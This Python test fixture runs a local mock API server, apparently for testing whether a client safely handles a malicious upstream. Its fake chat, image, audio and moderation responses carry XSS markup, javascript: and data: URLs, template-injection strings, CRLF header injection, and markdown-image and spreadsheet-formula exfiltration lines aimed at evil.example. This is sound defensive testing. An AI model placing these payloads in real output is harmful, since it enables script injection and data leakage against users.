"""An upstream that means harm: whatever it may choose in an answer is markup, addresses, formulas or odd characters."""

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, Self

from tests.embeddings.test_embeddings import body as embeddings
from tests.images.samples import encoded, picture

from .samples import MARKUP

EVIL = "evil.example"
LINES = (
    *MARKUP,
    f'<script src="https://{EVIL}/x.js">window.pwned = 1</script>',
    "<img src=x onerror=window.pwned=2>",
    '"><svg onload=window.pwned=3>',
    "' autofocus onfocus='window.pwned=4",
    "[click](javascript:window.pwned=5) <javascript:window.pwned=6>",
    f"![x](https://{EVIL}/leak?d=secret) [away](https://{EVIL}/)",
    "[a](data:text/html,<script>window.pwned=7</script>)",
    "</textarea></title></style></template><script>window.pwned=8</script>",
    "{{ 1234|add:4321 }} {{1234*5678}} {% raw %} {% csrf_token %} ${1234*5678}",
    "\u202egnp.exe \u2028 \x00 \x1b[2J \ud800 \udfff",
    "name\r\nContent-Type: text/html\r\n\r\n<script>window.pwned=9</script>",
)
TEXT = "\n\n".join(LINES)
# What a form can carry of it.
TYPED = TEXT.encode("utf-8", "ignore").decode().replace("\x00", "")
# The whole text where a word is expected, in one line and no longer than such words are stored.
WORD = '"><script>window.pwned=1</script><img src=x onerror=window.pwned=2>../../\r\n\u202e{{1234*5678}}'
FORMULA = f'=HYPERLINK("https://{EVIL}/?d="&A1,"click")'
SCRIPT_ADDRESS = "javascript:window.pwned=1"
PLACES = {"start_index": 0, "end_index": 5, "url": SCRIPT_ADDRESS, "title": TEXT}
LOGPROB = {"token": WORD, "logprob": -0.5, "bytes": [60], "top_logprobs": [{"token": WORD, "logprob": -0.5}]}
CALL = {"id": WORD, "type": "function", "function": {"name": WORD, "arguments": json.dumps({WORD: TEXT})}}
MESSAGE = {
    "role": WORD,
    "content": TEXT,
    "refusal": TEXT,
    "reasoning_content": TEXT,
    "tool_calls": [CALL],
    "annotations": [{"type": "url_citation", "url_citation": PLACES}],
}
COMPLETION = {
    "id": WORD,
    "object": WORD,
    "created": WORD,
    "model": WORD,
    "system_fingerprint": WORD,
    "service_tier": WORD,
    "choices": [
        {
            "index": 0,
            "finish_reason": WORD,
            "message": MESSAGE,
            "logprobs": {"content": [LOGPROB], "refusal": None},
        },
        {"index": 1, "finish_reason": "stop", "message": {"role": "assistant", "content": FORMULA}},
    ],
    "usage": {"prompt_tokens": WORD, "completion_tokens": 2, WORD: {WORD: WORD}},
}
CITED = [
    {"type": "url_citation", **PLACES},
    {"type": "file_citation", "file_id": WORD, "filename": WORD, "index": 0},
    {"type": "container_file_citation", "container_id": WORD, "file_id": WORD, "filename": WORD, **PLACES},
]
SEARCH = {
    "type": "search",
    "query": TEXT,
    "queries": [TEXT],
    "sources": [{"type": "url", "url": SCRIPT_ADDRESS}],
}
OUTPUT: list[dict[str, Any]] = [
    {"type": "reasoning", "summary": [{"type": "summary_text", "text": TEXT}]},
    {"type": "web_search_call", "status": WORD, "action": SEARCH},
    {
        "type": "web_search_call",
        "status": "completed",
        "action": {"type": "open_page", "url": SCRIPT_ADDRESS},
    },
    {
        "type": "file_search_call",
        "queries": [TEXT],
        "results": [{"filename": WORD, "text": TEXT, "score": 1}],
    },
    {"type": "function_call", "name": WORD, "arguments": TEXT, "call_id": WORD, "status": WORD},
    {
        "type": "code_interpreter_call",
        "code": TEXT,
        "container_id": WORD,
        "outputs": [{"type": "logs", "logs": TEXT}, {"type": "image", "url": f"https://{EVIL}/a.png"}],
    },
    {"type": "mcp_list_tools", "server_label": WORD, "tools": [{"name": WORD, "description": TEXT}]},
    {
        "type": "mcp_call",
        "name": WORD,
        "server_label": WORD,
        "arguments": TEXT,
        "output": TEXT,
        "error": TEXT,
    },
    {"type": "mcp_approval_request", "name": WORD, "server_label": WORD, "arguments": TEXT},
    {"type": "custom_tool_call", "name": WORD, "input": TEXT, "call_id": WORD},
    {
        "type": "image_generation_call",
        "result": encoded(picture()),
        "revised_prompt": TEXT,
        "status": WORD,
    },
    {"type": WORD, WORD: TEXT},
    {
        "type": "message",
        "role": WORD,
        "status": WORD,
        "content": [
            {"type": "output_text", "text": TEXT, "annotations": CITED, "logprobs": [LOGPROB]},
            {"type": "refusal", "refusal": TEXT},
            {"type": WORD, "text": TEXT},
        ],
    },
]
WORDS = [{"word": WORD, "start": 0, "end": 0.5}, {"word": FORMULA, "start": 0.5, "end": 1}]
SEGMENTS = [
    {"id": WORD, "start": 0, "end": 0.5, "text": TEXT, "speaker": WORD},
    {"id": 1, "start": 0.5, "end": 1, "text": FORMULA, "speaker": FORMULA},
]
SPOKEN = {"text": TEXT, "language": WORD, "duration": 1, "words": WORDS, "segments": SEGMENTS}
VERDICT = {
    "flagged": True,
    "categories": {WORD: True, TEXT[:200]: False},
    "category_scores": {WORD: 0.9, TEXT[:200]: 0.1},
    "category_applied_input_types": {WORD: [WORD]},
}
PICTURES = [
    {"b64_json": encoded(picture()), "revised_prompt": TEXT},
    {"url": SCRIPT_ADDRESS, "revised_prompt": TEXT},
]
STORED = {**COMPLETION, "id": WORD, "created": 1, "metadata": {WORD: FORMULA, FORMULA: WORD}}
ANSWERS: dict[str, Any] = {
    "chat/completions": COMPLETION,
    "completions": {
        **COMPLETION,
        "choices": [
            {
                "index": 0,
                "text": TEXT,
                "finish_reason": WORD,
                "logprobs": {
                    "tokens": [WORD],
                    "token_logprobs": [-1],
                    "text_offset": [0],
                    "top_logprobs": [{WORD: -1}],
                },
            }
        ],
    },
    "responses": {
        "id": WORD,
        "object": "response",
        "status": "completed",
        "model": WORD,
        "output": OUTPUT,
        "metadata": {WORD: TEXT},
        "usage": {"input_tokens": 1, "output_tokens": 1},
    },
    "images/generations": {"created": 1, "data": PICTURES, "background": WORD, "quality": WORD, "size": WORD},
    "audio/transcriptions": SPOKEN,
    "moderations": {"id": WORD, "model": WORD, "results": [VERDICT]},
}
MODELS = {
    "data": [{"id": WORD, "owned_by": WORD}, {"id": TEXT[:200]}, {"id": 5}, WORD, {"id": SCRIPT_ADDRESS}]
}
LISTED = {"data": [STORED, {**STORED, "id": "plain"}], "has_more": False}
SAID = {"data": [{"id": WORD, "role": WORD, "content": TEXT, "name": WORD}], "has_more": False}
FAILURE = {"error": {"message": TEXT, "type": WORD, "param": WORD, "code": WORD}}
# A blank line ends a cue.
CUE = TEXT.replace("\r", "").replace("\n\n", "\n")
SUBTITLES = {
    "srt": f"1\n00:00:00,000 --> 00:00:01,000\n{CUE}\n",
    "vtt": f"WEBVTT\n\n00:00.000 --> 00:01.000\n{CUE}\n",
}


def answer(method: str, target: str, body: bytes) -> tuple[int, str, bytes]:
    """The status, the content type and the body."""
    path = target.partition("?")[0].removeprefix("/v1/")
    if b'"model": "fail"' in body or b'"model":"fail"' in body:
        return 400, "application/json", json.dumps(FAILURE).encode()
    if path == "embeddings":
        return 200, "application/json", embeddings()
    for kind, text in SUBTITLES.items():
        if path.startswith("audio/") and b"\r\n\r\n%b\r\n" % kind.encode() in body:
            return 200, "text/plain", text.encode("utf-8", "replace")
    if method == "GET":
        found = MODELS if path == "models" else SAID if path.endswith("/messages") else LISTED
        found = STORED if path.startswith("chat/completions/") and found is LISTED else found
        return 200, "application/json", json.dumps(found).encode()
    return 200, "application/json", json.dumps(ANSWERS.get(path, STORED)).encode()


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def reply(self) -> None:
        sent = self.rfile.read(int(self.headers.get("content-length") or 0))
        status, kind, body = answer(self.command, self.path, sent)
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("x-request-id", WORD.replace("\r\n", "").replace("\u202e", ""))
        self.send_header("x-ratelimit-limit-requests", '"><img src=x onerror=window.pwned=1>')
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = do_DELETE = reply

    def log_message(self, *arguments: Any) -> None:
        pass


class HostileUpstream:
    def __init__(self) -> None:
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_port}/v1"

    def __enter__(self) -> Self:
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self.server.shutdown()
        self.server.server_close()
